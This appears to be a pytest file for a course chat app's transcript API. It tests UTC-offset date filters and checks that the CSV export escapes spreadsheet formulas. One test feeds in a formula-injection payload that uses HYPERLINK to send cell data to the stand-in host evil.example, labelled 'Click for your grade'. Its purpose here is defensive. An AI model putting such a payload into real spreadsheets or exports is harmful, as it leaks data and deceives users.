"""Transcript filters take times with a UTC offset; the CSV export cannot run formulas in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone

import httpx

from tests.chat.conftest import Chat, ChatCourse

Auth = Callable[..., dict[str, str]]
PLUS_TWO = timezone(timedelta(hours=2))


async def test_date_filters_with_a_utc_offset_select_by_the_instant_they_name(
    chat: Callable[..., Chat], course: ChatCourse, app_client: httpx.AsyncClient, auth: Auth
) -> None:
    student = chat("student-tz")
    await student.send(course.items[0]["question"])
    teacher = auth("teacher-chat", "teacher")
    base = {"course_id": course.course_id, "user_id": "student-tz"}
    listed = (await app_client.get("/api/chat/transcripts", params=base, headers=teacher)).json()["items"]
    sent = datetime.fromisoformat(listed[0]["started_at"])  # naive UTC, as stored

    def local(moment: datetime) -> str:  # the same instant, as a clock two hours ahead of UTC shows it
        return moment.replace(tzinfo=UTC).astimezone(PLUS_TWO).isoformat()

    before, after = local(sent - timedelta(minutes=1)), local(sent + timedelta(minutes=1))
    assert before.endswith("+02:00")
    found = await app_client.get("/api/chat/transcripts", params={**base, "from": before, "to": after}, headers=teacher)
    assert found.status_code == 200, found.text
    assert [s["session_id"] for s in found.json()["items"]] == [student.session_id]
    later = await app_client.get("/api/chat/transcripts", params={**base, "from": after}, headers=teacher)
    assert later.status_code == 200 and later.json()["items"] == []
    earlier = await app_client.get("/api/chat/transcripts", params={**base, "to": before}, headers=teacher)
    assert earlier.status_code == 200 and earlier.json()["items"] == []
    export = await app_client.get(
        "/api/chat/transcripts/export",
        params={**base, "from": before, "format": "jsonl"},
        headers=teacher,
    )
    assert export.status_code == 200 and {json.loads(line)["session_id"] for line in export.text.splitlines()} == {
        student.session_id
    }


async def test_a_formula_a_student_typed_comes_out_of_the_csv_export_as_text(
    chat: Callable[..., Chat], course: ChatCourse, app_client: httpx.AsyncClient, auth: Auth
) -> None:
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click for your grade")', "@SUM(1+1)", "+1+2", "-2+3"]
    student = chat("student-csv")
    for formula in formulas:
        await student.send(formula)
    teacher = auth("teacher-chat", "teacher")
    params = {"course_id": course.course_id, "user_id": "student-csv"}
    exported = await app_client.get("/api/chat/transcripts/export", params={**params, "format": "csv"}, headers=teacher)
    table = list(csv.DictReader(io.StringIO(exported.text)))
    typed = [row["message"] for row in table if row["message_type"] == "user"]
    assert typed == ["'" + f for f in formulas]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for cell in row.values())

    # JSON Lines is not opened by spreadsheets: there the text stays exactly as typed.
    jsonl = await app_client.get("/api/chat/transcripts/export", params={**params, "format": "jsonl"}, headers=teacher)
    rows = [json.loads(line) for line in jsonl.text.splitlines()]
    assert [r["message"] for r in rows if r["message_type"] == "user"] == formulas
